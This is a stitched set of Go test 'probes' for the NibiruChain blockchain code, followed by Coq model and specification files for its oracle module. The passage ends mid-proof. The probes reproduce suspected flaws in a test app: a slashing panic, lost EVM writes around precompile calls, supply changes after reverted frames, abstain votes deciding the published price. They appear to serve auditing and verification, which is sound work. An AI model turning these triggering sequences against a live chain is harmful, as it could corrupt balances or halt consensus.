	for i := 0; i < 2; i++ {
		if _, err := sh.CreateValidator(f.Ctx, okeeper.NewTestMsgCreateValidator(okeeper.ValAddrs[i], okeeper.ValPubKeys[i], amt)); err != nil {
			t.Fatal(err)
		}
	}
	staking.EndBlocker(f.Ctx, &f.StakingKeeper)
	// validator 1 misses a vote
	f.OracleKeeper.MissCounters.Insert(f.Ctx, okeeper.ValAddrs[1], 120)
	// validator 1 unbonds everything
	_, err := sh.Undelegate(f.Ctx, stakingtypes.NewMsgUndelegate(okeeper.Addrs[1], okeeper.ValAddrs[1], sdk.NewCoin("unibi", amt)))
	fmt.Println("undelegate err:", err)
	staking.EndBlocker(f.Ctx, &f.StakingKeeper)
	ctx2 := f.Ctx.WithBlockTime(f.Ctx.BlockTime().Add(2 * time.Second)).WithBlockHeight(f.Ctx.BlockHeight() + 1)
	staking.EndBlocker(ctx2, &f.StakingKeeper)
	_, found := f.StakingKeeper.GetValidator(ctx2, okeeper.ValAddrs[1])
	fmt.Println("validator 1 still exists:", found)
	defer func() {
		if r := recover(); r != nil {
			fmt.Println("PANIC in SlashAndResetMissCounters:", r)
		}
	}()
	f.OracleKeeper.SlashAndResetMissCounters(ctx2)
	fmt.Println("no panic")
}
