package probe

import (
	"fmt"
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	gethcommon "github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm"
	"github.com/NibiruChain/nibiru/v2/x/evm/embeds"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
	"github.com/NibiruChain/nibiru/v2/x/evm/precompile"
)

func sendTx(t *testing.T, deps *evmtest.TestDeps, to *gethcommon.Address, data []byte) *evm.MsgEthereumTxResponse {
	nonce := deps.EvmKeeper.GetAccNonce(deps.Ctx, deps.Sender.EthAddr)
	in := hexutil.Bytes(data)
	gas := hexutil.Uint64(3_000_000)
	args := evm.JsonTxArgs{Nonce: (*hexutil.Uint64)(&nonce), Input: &in, From: &deps.Sender.EthAddr, To: to, Gas: &gas}
	ethTxMsg := args.ToMsgEthTx()
	gethSigner := deps.GethSigner()
	krSigner := deps.Sender.KeyringSigner
	if err := ethTxMsg.Sign(gethSigner, krSigner); err != nil {
		t.Fatal(err)
	}
	resp, err := deps.EvmKeeper.EthereumTx(sdk.WrapSDKContext(deps.Ctx), ethTxMsg)
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func TestLostWrite(t *testing.T) {
	deps := evmtest.NewTestDeps()
	if err := testapp.FundAccount(deps.App.BankKeeper, deps.Ctx, deps.Sender.NibiruAddr, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e15)))); err != nil {
		t.Fatal(err)
	}
	if err := testapp.FundModuleAccount(deps.App.BankKeeper, deps.Ctx, "fee_collector", sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e15)))); err != nil {
		t.Fatal(err)
	}
	runtime := gethcommon.FromHex("6007600155" + "36600060003 7"[0:0] + "366000600037" + "6000600036600060006108005AF1" + "5000")
	init := append([]byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0B, 0x60, 0x00, 0x39, 0x60, 0x00, 0xF3}, runtime...)
	nonce := deps.EvmKeeper.GetAccNonce(deps.Ctx, deps.Sender.EthAddr)
	r := sendTx(t, &deps, nil, init)
	fmt.Println("deploy vmerr:", r.VmError)
	addr := crypto.CreateAddress(deps.Sender.EthAddr, nonce)
	fmt.Printf("code=%x\n", deps.EvmKeeper.GetCode(deps.Ctx, gethcommon.BytesToHash(deps.EvmKeeper.GetAccount(deps.Ctx, addr).CodeHash)))

	slot := gethcommon.BigToHash(big.NewInt(1))
	// case 1: calldata = unknown selector (precompile fails BEFORE OnRunStart snapshot/flush)
	r = sendTx(t, &deps, &addr, []byte{1, 2, 3, 4})
	fmt.Println("case1 gasUsed", r.GasUsed, "vmerr:", r.VmError, "slot1 =", deps.EvmKeeper.GetState(deps.Ctx, addr, slot).Big())
	// reset slot to 0? deploy a fresh contract instead
	nonce = deps.EvmKeeper.GetAccNonce(deps.Ctx, deps.Sender.EthAddr)
	sendTx(t, &deps, nil, init)
	addr2 := crypto.CreateAddress(deps.Sender.EthAddr, nonce)
	// case 2: valid ABI for sendToBank on a non-funtoken erc20 (fails AFTER OnRunStart flush)
	in, err := embeds.SmartContract_FunToken.ABI.Pack("sendToBank", gethcommon.HexToAddress("0x1234"), big.NewInt(1), deps.Sender.NibiruAddr.String())
	if err != nil {
		t.Fatal(err)
	}
	r = sendTx(t, &deps, &addr2, in)
	fmt.Println("case2 gasUsed", r.GasUsed, "vmerr:", r.VmError, "slot1 =", deps.EvmKeeper.GetState(deps.Ctx, addr2, slot).Big())
	// case 3: successful read-only precompile call (whoAmI) — no revert
	nonce = deps.EvmKeeper.GetAccNonce(deps.Ctx, deps.Sender.EthAddr)
	sendTx(t, &deps, nil, init)
	addr3 := crypto.CreateAddress(deps.Sender.EthAddr, nonce)
	in, _ = embeds.SmartContract_FunToken.ABI.Pack("whoAmI", deps.Sender.NibiruAddr.String())
	r = sendTx(t, &deps, &addr3, in)
	fmt.Println("case3 vmerr:", r.VmError, "slot1 =", deps.EvmKeeper.GetState(deps.Ctx, addr3, slot).Big())
	_ = precompile.PrecompileAddr_FunToken
}
