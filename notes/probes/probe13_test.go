package probe

import (
	"fmt"
	"math/big"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	gethcommon "github.com/ethereum/go-ethereum/common"
	gethcore "github.com/ethereum/go-ethereum/core/types"

	"github.com/NibiruChain/nibiru/v2/app"
	"github.com/NibiruChain/nibiru/v2/app/appconst"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
)

func TestEvmDeliverFailAfterAnte(t *testing.T) {
	napp, _ := testapp.NewNibiruTestApp(app.GenesisState{})
	napp.Commit()
	header := tmproto.Header{Height: napp.LastBlockHeight() + 1, Time: time.Unix(1_700_000_000, 0).UTC()}
	napp.BeginBlock(abci.RequestBeginBlock{Header: header})
	ctx := napp.NewContext(false, header)
	E := evmtest.NewEthPrivAcc()
	if err := testapp.FundAccount(napp.BankKeeper, ctx, E.NibiruAddr, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e12)))); err != nil {
		t.Fatal(err)
	}
	chainID := appconst.GetEthChainID(ctx.ChainID())
	fmt.Println("eth chain id", chainID, "cosmos chain id", ctx.ChainID())
	txCfg := app.MakeEncodingConfig().TxConfig
	supply := func() string { return napp.BankKeeper.GetSupply(ctx, "unibi").Amount.String() }
	bal := func(a sdk.AccAddress) string { return napp.BankKeeper.GetBalance(ctx, a, "unibi").Amount.String() }
	fc := napp.AccountKeeper.GetModuleAddress("fee_collector")
	send := func(nonce uint64, gas uint64, price int64, to gethcommon.Address, value int64) {
		tx := evm.NewTx(&evm.EvmTxArgs{ChainID: chainID, Nonce: nonce, GasLimit: gas, GasPrice: big.NewInt(price), To: &to, Amount: big.NewInt(value)})
		tx.From = E.EthAddr.Hex()
		if err := tx.Sign(gethcore.LatestSignerForChainID(chainID), E.KeyringSigner); err != nil {
			t.Fatal(err)
		}
		cosmosTx, err := tx.BuildTx(txCfg.NewTxBuilder(), "unibi")
		if err != nil {
			t.Fatal(err)
		}
		bz, err := txCfg.TxEncoder()(cosmosTx)
		if err != nil {
			t.Fatal(err)
		}
		b0, f0, s0 := bal(E.NibiruAddr), bal(fc), supply()
		r := napp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
		fmt.Printf("gas=%d price=%d -> code=%d gasWanted=%d gasUsed=%d log=%.110s\n   signer %s -> %s ; feecollector %s -> %s ; supply %s -> %s ; seq=%d\n",
			gas, price, r.Code, r.GasWanted, r.GasUsed, r.Log, b0, bal(E.NibiruAddr), f0, bal(fc), s0, supply(), napp.AccountKeeper.GetAccount(ctx, E.NibiruAddr).GetSequence())
	}
	to := gethcommon.HexToAddress("0xBEEF")
	send(0, 21000, 1_000_000_000_000, to, 1_000_000_000_000) // ok
	send(1, 20000, 1_000_000_000_000, to, 1_000_000_000_000) // below intrinsic gas
	send(2, 50000, 1_500_000_000_001, to, 1_000_000_000_000) // odd price
}
