package probe

import (
	"fmt"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/staking"
	stakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"

	"github.com/NibiruChain/nibiru/v2/x/common/asset"
	okeeper "github.com/NibiruChain/nibiru/v2/x/oracle/keeper"
	otypes "github.com/NibiruChain/nibiru/v2/x/oracle/types"
)

func TestOracleAbstainWins(t *testing.T) {
	f := okeeper.CreateTestFixture(t)
	params, _ := f.OracleKeeper.Params.Get(f.Ctx)
	params.VotePeriod = 1
	params.MinVoters = 1
	pair := params.Whitelist[0]
	f.OracleKeeper.Params.Set(f.Ctx, params)
	sh := stakingkeeper.NewMsgServerImpl(&f.StakingKeeper)
	one := sdk.TokensFromConsensusPower(1, sdk.DefaultPowerReduction)
	for i := 0; i < 2; i++ {
		if _, err := sh.CreateValidator(f.Ctx, okeeper.NewTestMsgCreateValidator(okeeper.ValAddrs[i], okeeper.ValPubKeys[i], one)); err != nil {
			t.Fatal(err)
		}
	}
	staking.EndBlocker(f.Ctx, &f.StakingKeeper)
	f.OracleKeeper.Votes.Insert(f.Ctx, okeeper.ValAddrs[0], otypes.NewAggregateExchangeRateVote(
		otypes.ExchangeRateTuples{{Pair: pair, ExchangeRate: sdkmath.LegacyNewDec(5)}}, okeeper.ValAddrs[0]))
	f.OracleKeeper.Votes.Insert(f.Ctx, okeeper.ValAddrs[1], otypes.NewAggregateExchangeRateVote(
		otypes.ExchangeRateTuples{{Pair: pair, ExchangeRate: sdkmath.LegacyZeroDec()}}, okeeper.ValAddrs[1]))
	f.OracleKeeper.UpdateExchangeRates(f.Ctx)
	r, err := f.OracleKeeper.ExchangeRates.Get(f.Ctx, pair)
	fmt.Println("pair", pair, "published:", r.ExchangeRate, "err", err)
	_ = asset.Pair("")
}
