package probe

import (
	"encoding/json"
	"fmt"
	"math/big"
	"sort"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	tmdb "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	bank "github.com/cosmos/cosmos-sdk/x/bank/types"
	gethcommon "github.com/ethereum/go-ethereum/common"

	"github.com/NibiruChain/nibiru/v2/app"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm"
	"github.com/NibiruChain/nibiru/v2/x/evm/statedb"
	oracletypes "github.com/NibiruChain/nibiru/v2/x/oracle/types"
	tftypes "github.com/NibiruChain/nibiru/v2/x/tokenfactory/types"
)

func TestRoundTrip(t *testing.T) {
	napp, _ := testapp.NewNibiruTestApp(app.GenesisState{})
	napp.Commit()
	header := tmproto.Header{Height: napp.LastBlockHeight() + 1, Time: time.Unix(1_700_000_000, 0).UTC()}
	napp.BeginBlock(abci.RequestBeginBlock{Header: header})
	ctx := napp.NewContext(false, header)
	user := sdk.AccAddress([]byte("user_______________1"))
	if err := testapp.FundAccount(napp.BankKeeper, ctx, user, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e13)))); err != nil {
		t.Fatal(err)
	}
	// tokenfactory denom + custom metadata
	_, err := napp.TokenFactoryKeeper.CreateDenom(sdk.WrapSDKContext(ctx), &tftypes.MsgCreateDenom{Sender: user.String(), Subdenom: "foo"})
	fmt.Println("create denom err:", err)
	denom := "tf/" + user.String() + "/foo"
	md := bank.Metadata{Base: denom, Display: "FOO", Name: "Foo token", Symbol: "FOO", DenomUnits: []*bank.DenomUnit{{Denom: denom, Exponent: 0}, {Denom: "FOO", Exponent: 6}}}
	_, err = napp.TokenFactoryKeeper.SetDenomMetadata(sdk.WrapSDKContext(ctx), &tftypes.MsgSetDenomMetadata{Sender: user.String(), Metadata: md})
	fmt.Println("set md err:", err)
	// evm: contract with storage via statedb
	db := napp.EvmKeeper.NewStateDB(ctx, statedb.NewEmptyTxConfig(gethcommon.Hash{}))
	C := gethcommon.HexToAddress("0xC0FFEE")
	db.SetNonce(C, 1)
	db.SetCode(C, []byte{0x60, 0x00})
	db.SetState(C, gethcommon.BigToHash(big.NewInt(1)), gethcommon.BigToHash(big.NewInt(7)))
	db.SetState(C, gethcommon.BigToHash(big.NewInt(2)), gethcommon.BigToHash(big.NewInt(9)))
	if err := db.Commit(); err != nil {
		t.Fatal(err)
	}
	napp.EvmKeeper.Bank.StateDB = nil
	db = napp.EvmKeeper.NewStateDB(ctx, statedb.NewEmptyTxConfig(gethcommon.Hash{}))
	db.SetState(C, gethcommon.BigToHash(big.NewInt(2)), gethcommon.Hash{}) // zero a slot
	_ = db.Commit()
	napp.EvmKeeper.Bank.StateDB = nil
	// oracle: miss counter, rewards
	napp.OracleKeeper.MissCounters.Insert(ctx, sdk.ValAddress(user), 3)
	napp.OracleKeeper.SetPrice(ctx, "ubtc:uusd", sdkmath.LegacyNewDec(5))
	_ = oracletypes.ModuleName
	_ = testutil.ADDR_SUDO_ROOT
	_ = evm.ModuleName
	napp.EndBlock(abci.RequestEndBlock{Height: header.Height})
	napp.Commit()

	exp1, err := napp.ExportAppStateAndValidators(false, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	app2 := app.NewNibiruApp(log.NewNopLogger(), tmdb.NewMemDB(), nil, true, sims.EmptyAppOptions{})
	app2.InitChain(abci.RequestInitChain{ConsensusParams: sims.DefaultConsensusParams, AppStateBytes: exp1.AppState, Validators: nil, InitialHeight: exp1.Height, Time: header.Time})
	app2.Commit()
	exp2, err := app2.ExportAppStateAndValidators(false, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	var g1, g2 map[string]json.RawMessage
	_ = json.Unmarshal(exp1.AppState, &g1)
	_ = json.Unmarshal(exp2.AppState, &g2)
	var names []string
	for k := range g1 {
		names = append(names, k)
	}
	sort.Strings(names)
	for _, k := range names {
		a, b := canon(g1[k]), canon(g2[k])
		if a != b {
			fmt.Printf("DIFF module %s\n  1: %.600s\n  2: %.600s\n", k, a, b)
		}
	}
}

func canon(r json.RawMessage) string {
	var v any
	_ = json.Unmarshal(r, &v)
	b, _ := json.Marshal(v)
	return string(b)
}
