package probe

import (
	"fmt"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	gethcommon "github.com/ethereum/go-ethereum/common"

	"github.com/NibiruChain/nibiru/v2/eth"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
)

func TestMintWitness(t *testing.T) {
	deps := evmtest.NewTestDeps()
	A, B, C := gethcommon.HexToAddress("0xA1"), gethcommon.HexToAddress("0xB2"), gethcommon.HexToAddress("0xC3")
	_ = testapp.FundAccount(deps.App.BankKeeper, deps.Ctx, eth.EthAddrToNibiruAddr(A), sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(100))))
	supply := func() string { return deps.App.BankKeeper.GetSupply(deps.Ctx, "unibi").Amount.String() }
	bal := func(a gethcommon.Address) string {
		return deps.App.BankKeeper.GetBalance(deps.Ctx, eth.EthAddrToNibiruAddr(a), "unibi").Amount.String()
	}
	s0 := supply()
	db := deps.NewStateDB()
	// transfer 5 unibi A -> B (core.Transfer)
	db.SubBalance(A, wei(5))
	db.AddBalance(B, wei(5))
	// inner frame: a successful precompile call, then A moves 1 unibi to C, then the frame reverts
	snap := db.Snapshot()
	precompileCall(t, &deps, db, A, A, 0)
	db.SubBalance(A, wei(1))
	db.AddBalance(C, wei(1))
	db.RevertToSnapshot(snap)
	if err := db.Commit(); err != nil {
		t.Fatal(err)
	}
	fmt.Println("A", bal(A), "B", bal(B), "C", bal(C), "| supply", s0, "->", supply())
}
