(** C10 — the structural facts about the code that the model is parameterised by.  A value of
    [code_cfg] is re-extracted from /repo on every check (Gen/C10Facts.v, by harness/gen/c10);
    [variant_of] maps it to the model variant it denotes — or to None when the code has a shape the
    model does not cover.  No proofs in this file. *)
From Coq Require Import ZArith List Bool Arith String.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model.
Local Open Scope string_scope.

Inductive rounding := RoundInt | TruncateInt | RoundOther.
Inductive cmp := CmpGe | CmpGt | CmpOther.
Inductive expiry_form := ExpiryNoWrap | ExpiryWrapSum | ExpiryOther.
Inductive tally_form := TallyNoAdd | TallyAdd | TallyOther.
Inductive dup_form := DupSeenSet | DupPrevOnly | DupNone | DupOther.

Record code_cfg := {
  cc_pipeline : list string;         (* stage calls reached from UpdateExchangeRates, in order, helpers inlined *)
  cc_clear_votes_guards : nat;       (* non-error path conditions on the call of clearVotesAndPrevotes (early returns / ifs before it) *)
  cc_update_gate : list string;      (* EndBlocker: period gates on the path to UpdateExchangeRates *)
  cc_endblock_order : list string;   (* EndBlocker: the tally runs before the slash-window processing *)
  cc_rounding : rounding;            (* method applied to VoteThreshold.MulInt64(totalBondedPower) *)
  cc_threshold_from_param : bool;
  cc_skips_ineligible : bool;        (* groupVotesByPair: a vote is appended only if the voter is in the performance map *)
  cc_power_per_tuple : bool;         (* groupVotesByPair: the zeroed power variable is defined per tuple *)
  cc_median_sorts : bool;            (* WeightedMedianWithAssertion sorts first *)
  cc_median_guard : bool;            (* pivot test has the conjunct power > 0 (d9ae51e) *)
  cc_median_cmp : cmp;               (* accumulated power >= / > half *)
  cc_median_half : bool;             (* half = total power / 2, accumulator is summed in the loop *)
  cc_period_gate : string;           (* IsPeriodLastBlock, prefix normal form *)
  cc_expiry : expiry_form;           (* clearExchangeRates *)
  cc_tally_lower : bool;             (* rate.GTE(median.Sub(spread)) *)
  cc_tally_upper : tally_form;
  cc_band_halved : bool;             (* rewardBand.QuoInt64(2) *)
  cc_validate_vote_period : bool;    (* Params.Validate rejects VotePeriod == 0 *)
  cc_validate_thr_lower : bool;      (* … VoteThreshold <= 0.33 *)
  cc_validate_thr_upper : bool;      (* … VoteThreshold > 1 (662a06f) *)
  cc_validate_min_voters : bool;
  cc_validate_band : bool;
  cc_edit_validates : bool;          (* EditOracleParams validates the merged params before storing (662a06f) *)
  cc_dup_check : dup_form;           (* NewExchangeRateTuplesFromString: a repeated pair is detected with a set of ALL pairs seen so far /
                                        only by comparing with the preceding tuple / not at all *)
  cc_voter_strings : list string     (* the distinct forms of the Voter field in every AggregateExchangeRate(Pre)vote literal of
                                        x/oracle{,/keeper,/types}: "canon" = <address>.String(), otherwise "raw:<expr>" *)
}.

Definition expected_pipeline : list string :=
  ["newValidatorPerformances"; "groupVotesByPair"; "removeInvalidVotes"; "clearExchangeRates"; "Tally"; "SetPrice";
   "incrementMissCounters"; "incrementAbstainsByOmission"; "rewardWinners"; "clearVotesAndPrevotes"; "refreshWhitelist"].
Definition expected_gate : string := "(== (% (+ H 1) P1) 0)".

Fixpoint strs_eqb (a b : list string) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => String.eqb x y && strs_eqb a' b'
  | _, _ => false
  end.

(** the parts of the code shape for which the model has no variant: they must be exactly as modelled *)
Definition structural_ok (c : code_cfg) : bool :=
  strs_eqb (cc_pipeline c) expected_pipeline && Nat.eqb (cc_clear_votes_guards c) 0 && strs_eqb (cc_update_gate c) ["+VotePeriod"] &&
  strs_eqb (cc_endblock_order c) ["UpdateExchangeRates"; "SlashAndResetMissCounters"] &&
  (match cc_rounding c with RoundInt => true | _ => false end) && cc_threshold_from_param c &&
  cc_skips_ineligible c && cc_power_per_tuple c && cc_median_sorts c &&
  (match cc_median_cmp c with CmpGe => true | _ => false end) && cc_median_half c &&
  String.eqb (cc_period_gate c) expected_gate &&
  cc_tally_lower c && cc_band_halved c.

(** the repaired spots the model has variants for: (d9ae51e, 48f939b, 66a0ce3) *)
Definition variant_of (c : code_cfg) : option (bool * bool * bool) :=
  if structural_ok c then
    match cc_expiry c, cc_tally_upper c with
    | ExpiryOther, _ | _, TallyOther => None
    | e, t => Some (cc_median_guard c,
                    match e with ExpiryNoWrap => true | _ => false end,
                    match t with TallyNoAdd => true | _ => false end)
    end
  else None.

(** the model of the code described by [c] *)
Definition end_block_cfg (c : code_cfg) (p : params) (st : state) (h : Z) : option outcome :=
  match variant_of c with
  | Some (fx, fe, ft) => Some (end_block_gen fx fe ft p st h)
  | None => None
  end.

(** which parameter values the code described by [c] accepts = Spec.params_valid requires all five *)
Definition validate_ok (c : code_cfg) : bool :=
  cc_validate_vote_period c && cc_validate_thr_lower c && cc_validate_thr_upper c &&
  cc_validate_min_voters c && cc_validate_band c && cc_edit_validates c.

(** the Voter string of every stored vote / prevote is the canonical spelling of a decoded address
    (Model.voter_string true); a literal built from a message field selects [voter_string false] *)
Definition voter_canonical (c : code_cfg) : bool := forallb (String.eqb "canon") (cc_voter_strings c).

(** which duplicate test the vote-string parser applies = the [dc] flag of the message-level model (None: a shape the
    model has no variant for) *)
Definition dup_variant (c : code_cfg) : option bool :=
  match cc_dup_check c with DupSeenSet => Some true | DupPrevOnly => Some false | _ => None end.

(** the configuration the theorems of Property.v are about *)
Definition cfg_ok (c : code_cfg) : bool :=
  match variant_of c, dup_variant c with
  | Some (true, true, true), Some true => validate_ok c && voter_canonical c
  | _, _ => false
  end.
