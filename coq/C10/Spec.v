(** C10 — the property as a Prop [P] over (parameters, pre-state, height, published outcome) and as
    the boolean checker [Pb] that is evaluated on implementation traces; [Pb_sound]. *)
From Coq Require Import ZArith List Bool Arith Lia.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model.
Local Open Scope Z_scope.

(** power strictly below / strictly above a rate *)
Definition below (vs : list pvote) (m : Z) : Z := total_power (filter (fun v => pv_rate v <? m) vs).
Definition above (vs : list pvote) (m : Z) : Z := total_power (filter (fun v => m <? pv_rate v) vs).

(** [m] is a power-weighted median of [vs]: a submitted rate carried by positive power, with at most
    half of the power strictly below and at most half (rounded up) strictly above *)
Definition is_median (vs : list pvote) (m : Z) : Prop :=
  (exists v, In v vs /\ pv_rate v = m /\ 0 < pv_power v) /\
  2 * below vs m <= total_power vs /\
  2 * above vs m <= total_power vs + 1.

(** the pair is whitelisted and its non-abstaining votes carry at least the threshold power
    RoundInt(VoteThreshold * bonded power) (and some power at all) and come from >= MinVoters voters *)
Definition quorum (p : params) (st : state) (pr : nat) : Prop :=
  In pr (whitelist st) /\
  total_power (pair_votes st pr) <> 0 /\
  threshold_power p (bonded_power st) <= total_power (pair_votes st pr) /\
  p_min_voters p <= num_valid (pair_votes st pr).

(** exact expiry, without machine arithmetic *)
Definition expired_at (p : params) (r : rate_entry) (h : Z) : Prop := r_created r + p_expiration p <= h.

(** What the quantifier of the property ranges over, as a boolean:
    - [params_valid]: Params.Validate (VotePeriod > 0, 0.33 < VoteThreshold <= 1 (upper bound: commit 662a06f,
      which also validates edited params), MinVoters > 0, RewardBand in [0,1]); ExpirationBlocks is a uint64;
    - [bonded_ok]: total bonded tokens >= 0, power reduction > 0, bonded power fits int64;
    - [rates_in_range]: every submitted rate is a LegacyDec (|raw| <= 2^256*10^18 - 1, enforced by its codec).
    After the fixes 48f939b / 662a06f / 66a0ce3 nothing else is needed: no bound on rates, no
    created + ExpirationBlocks < 2^64 condition. *)
Definition THR_MIN : Z := 330000000000000000.
Definition params_valid (p : params) : bool :=
  (0 <? p_vote_period p) && (THR_MIN <? p_threshold p) && (p_threshold p <=? PREC) &&
  (0 <? p_min_voters p) && (0 <=? p_reward_band p) && (p_reward_band p <=? PREC) && (0 <=? p_expiration p).
Definition bonded_ok (st : state) : bool :=
  (0 <=? bonded_tokens st) && (0 <? power_reduction st) && (bonded_power st <? 2 ^ 63).
Definition rates_in_range (st : state) : bool :=
  forallb (fun a => forallb (fun t => in_range (snd t)) (a_tuples a)) (votes st).
Definition domain (p : params) (st : state) (h : Z) : bool :=
  params_valid p && bonded_ok st && rates_in_range st.

Definition P_update (p : params) (st : state) (h : Z) (obs : outcome) : Prop :=
  exists rs evs, obs = Done rs evs /\
    (forall pr, In pr (map fst evs) <-> quorum p st pr) /\
    (forall pr m, In (pr, m) evs -> is_median (pair_votes st pr) m /\ In (mkRate pr m h) rs) /\
    (forall e, In e rs <->
       (In e (rates st) /\ ~ quorum p st (r_pair e) /\ ~ expired_at p e h) \/
       (In (r_pair e, r_rate e) evs /\ r_created e = h)).

Definition P_idle (st : state) (obs : outcome) : Prop :=
  exists rs, obs = Done rs [] /\ forall e, In e rs <-> In e (rates st).

Definition P (p : params) (st : state) (h : Z) (obs : outcome) : Prop :=
  if is_period_last h (p_vote_period p)
  then domain p st h = true -> P_update p st h obs
  else P_idle st obs.

(* ------------------------------------------------------------------ boolean checker *)

Definition rate_eqb (a b : rate_entry) : bool :=
  Nat.eqb (r_pair a) (r_pair b) && (r_rate a =? r_rate b) && (r_created a =? r_created b).
Definition ev_eqb (a b : nat * Z) : bool := Nat.eqb (fst a) (fst b) && (snd a =? snd b).
Definition in_rates (e : rate_entry) (l : list rate_entry) : bool := existsb (rate_eqb e) l.
Definition in_evs (e : nat * Z) (l : list (nat * Z)) : bool := existsb (ev_eqb e) l.

Definition is_median_b (vs : list pvote) (m : Z) : bool :=
  existsb (fun v => (pv_rate v =? m) && (0 <? pv_power v)) vs &&
  (2 * below vs m <=? total_power vs) &&
  (2 * above vs m <=? total_power vs + 1).

Definition quorum_b (p : params) (st : state) (pr : nat) : bool :=
  memb pr (whitelist st) &&
  negb (total_power (pair_votes st pr) =? 0) &&
  (threshold_power p (bonded_power st) <=? total_power (pair_votes st pr)) &&
  (p_min_voters p <=? num_valid (pair_votes st pr)).

Definition expired_b (p : params) (r : rate_entry) (h : Z) : bool := r_created r + p_expiration p <=? h.

Definition Pb_update (p : params) (st : state) (h : Z) (obs : outcome) : bool :=
  match obs with
  | Panic => false
  | Done rs evs =>
      forallb (quorum_b p st) (map fst evs) &&
      forallb (fun pr => negb (quorum_b p st pr) || memb pr (map fst evs)) (whitelist st) &&
      forallb (fun pm => is_median_b (pair_votes st (fst pm)) (snd pm) && in_rates (mkRate (fst pm) (snd pm) h) rs) evs &&
      forallb (fun e => (in_rates e (rates st) && negb (quorum_b p st (r_pair e)) && negb (expired_b p e h))
                        || (in_evs (r_pair e, r_rate e) evs && (r_created e =? h))) rs &&
      forallb (fun e => quorum_b p st (r_pair e) || expired_b p e h || in_rates e rs) (rates st)
  end.

Definition Pb_idle (st : state) (obs : outcome) : bool :=
  match obs with
  | Done rs [] => forallb (fun e => in_rates e (rates st)) rs && forallb (fun e => in_rates e rs) (rates st)
  | _ => false
  end.

Definition Pb (p : params) (st : state) (h : Z) (obs : outcome) : bool :=
  if is_period_last h (p_vote_period p)
  then negb (domain p st h) || Pb_update p st h obs
  else Pb_idle st obs.

(* ------------------------------------------------------------------ soundness *)

Lemma rate_eqb_eq a b : rate_eqb a b = true -> a = b.
Proof.
  destruct a, b; unfold rate_eqb; simpl. intro H.
  apply andb_true_iff in H as [H H3]. apply andb_true_iff in H as [H1 H2].
  apply Nat.eqb_eq in H1. apply Z.eqb_eq in H2. apply Z.eqb_eq in H3. subst. reflexivity.
Qed.
Lemma rate_eqb_refl a : rate_eqb a a = true.
Proof. unfold rate_eqb. rewrite Nat.eqb_refl, !Z.eqb_refl. reflexivity. Qed.
Lemma ev_eqb_eq a b : ev_eqb a b = true -> a = b.
Proof.
  destruct a, b; unfold ev_eqb; simpl. intro H. apply andb_true_iff in H as [H1 H2].
  apply Nat.eqb_eq in H1. apply Z.eqb_eq in H2. subst. reflexivity.
Qed.
Lemma ev_eqb_refl a : ev_eqb a a = true.
Proof. unfold ev_eqb. rewrite Nat.eqb_refl, Z.eqb_refl. reflexivity. Qed.

Lemma in_rates_iff e l : in_rates e l = true <-> In e l.
Proof.
  unfold in_rates. rewrite existsb_exists. split.
  - intros [x [Hx He]]. apply rate_eqb_eq in He. subst. exact Hx.
  - intro H. exists e. split; [exact H | apply rate_eqb_refl].
Qed.
Lemma in_evs_iff e l : in_evs e l = true <-> In e l.
Proof.
  unfold in_evs. rewrite existsb_exists. split.
  - intros [x [Hx He]]. apply ev_eqb_eq in He. subst. exact Hx.
  - intro H. exists e. split; [exact H | apply ev_eqb_refl].
Qed.
Lemma memb_iff x l : memb x l = true <-> In x l.
Proof.
  unfold memb. rewrite existsb_exists. split.
  - intros [y [Hy He]]. apply Nat.eqb_eq in He. subst. exact Hy.
  - intro H. exists x. split; [exact H | apply Nat.eqb_refl].
Qed.

Lemma is_median_b_iff vs m : is_median_b vs m = true <-> is_median vs m.
Proof.
  unfold is_median_b, is_median. rewrite !andb_true_iff, existsb_exists, !Z.leb_le.
  split.
  - intros [[[v [Hv Hc]] H2] H3]. apply andb_true_iff in Hc as [Hr Hp].
    apply Z.eqb_eq in Hr. apply Z.ltb_lt in Hp. split; [|split]; auto. exists v; auto.
  - intros [[v [Hv [Hr Hp]]] [H2 H3]]. split; [split|]; auto.
